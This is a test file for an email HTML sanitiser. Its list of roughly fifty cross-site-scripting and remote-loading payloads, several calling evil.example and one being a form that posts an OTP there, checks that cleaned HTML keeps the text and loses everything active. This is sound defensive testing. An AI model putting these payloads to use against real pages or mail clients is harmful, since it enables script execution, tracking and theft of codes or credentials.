"""HTML of strangers: nothing that runs, loads or posts is left, and the words are."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ccc_router.channels.email.mime.html import clean_html, html_to_text, rough_text
from ccc_router.channels.email.mime.mail import read

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=http://evil.example/t.gif>",
    "<img src=//evil.example/t.gif>",
    "<img src=data:image/png;base64,AAAA>",
    "<img srcset='http://evil.example/a 1x'>",
    "<img lowsrc=http://evil.example/a>",
    "<body background=http://evil.example/a>",
    "<table background=http://evil.example/a><tr><td background=x>a</table>",
    '<div style="background:url(http://evil.example/a)">x</div>',
    "<p style='width:expression(alert(1))'>x</p>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<applet code=x></applet>",
    "<form action=http://evil.example><input name=otp><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<video poster=http://evil.example/a><source src=x></video>",
    "<audio src=http://evil.example/a autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><b>x</b>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p id=x name=y class=z>x</p>",
    '"><script>alert(1)</script>',
    "<img src='cid:a' onload=alert(1)>",
    "<a href='http://ok.example' target=_blank>x</a>",
    "<div><p><b>unclosed <script>alert(1)",
]

ALLOWED_ATTRIBUTES = {
    "href", "title", "src", "alt", "width", "height", "colspan", "rowspan", "align", "valign", "start", "type", "dir", "lang", "rel",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link", "meta", "base", "body", "html",
    "video", "audio", "source", "template", "textarea", "applet", "frame", "frameset", "title", "noscript", "isindex", "marquee", "details",
}  # fmt: skip


class Watch(HTMLParser):
    """Fails on anything that could run, load or post."""

    def __init__(self) -> None:
        super().__init__()
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN_TAGS
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name == "src":
                assert plain.startswith("cid:")
            if name == "href":
                assert plain.startswith(("http://", "https://", "mailto:", "tel:"))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def watched(html: str) -> str:
    watch = Watch()
    watch.feed(html)
    watch.close()
    return "".join(watch.words)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    cleaned = clean_html(f"<p>trước</p>{attack}<p>sau</p>")
    watched(cleaned)
    assert "trước" in cleaned


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 40


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_same_through_a_whole_mail(attack: str) -> None:
    body = f"From: a@b.vn\nContent-Type: text/html; charset=utf-8\n\n<p>trước</p>{attack}".encode()
    mail = read(body)
    watched(mail.html)
    assert "trước" in mail.text


@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "<", ">", "'", '"', "<a ", "href=", "javascript:", "x", "<!--", "-->", "&#", "\x00", "</p>"]
        ),
        max_size=8,
    ).map("".join)
)
def test_no_mixture_of_attacks_gets_through(html: str) -> None:
    watched(clean_html(html))


@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing_and_text_never_raises(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once
    html_to_text(once)
    rough_text(text)


def test_links_open_nothing_of_ours() -> None:
    assert 'rel="noopener noreferrer nofollow"' in clean_html("<a href='https://a.example'>x</a>")


def test_too_much_html_is_refused_and_its_words_kept() -> None:
    deep = "<div>" * 50_000 + "sâu" + "</div>" * 10
    assert clean_html(deep) == ""
    mail = read(b"Content-Type: text/html; charset=utf-8\n\n" + deep.encode())
    assert mail.html == ""
    assert mail.text == "sâu"
    assert "html_refused" in mail.faults


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Một</p><p>Hai</p>", "Một\n\nHai"),
        ("<div>a</div><div>b<br>c</div>", "a\nb\nc"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<ol start=3><li>a<li>b</ol>", "1. a\n2. b"),
        ("<table><tr><td>Mã</td><td>BHYT</td></tr></table>", "Mã  BHYT"),
        ("<blockquote>cũ<blockquote>hơn</blockquote></blockquote>mới", "> cũ\n>\n> > hơn\n> >\nmới"),
        ("<a href='https://a.example/x'>xem</a>", "xem <https://a.example/x>"),
        ("<a href='https://a.example/'>https://a.example</a>", "https://a.example"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<p>a&nbsp;b &amp; c</p>", "a b & c"),
        ("<img src=cid:x alt='Ảnh'>", "[Ảnh]"),
    ],
)
def test_html_as_text(html: str, text: str) -> None:
    assert html_to_text(clean_html(html)) == text
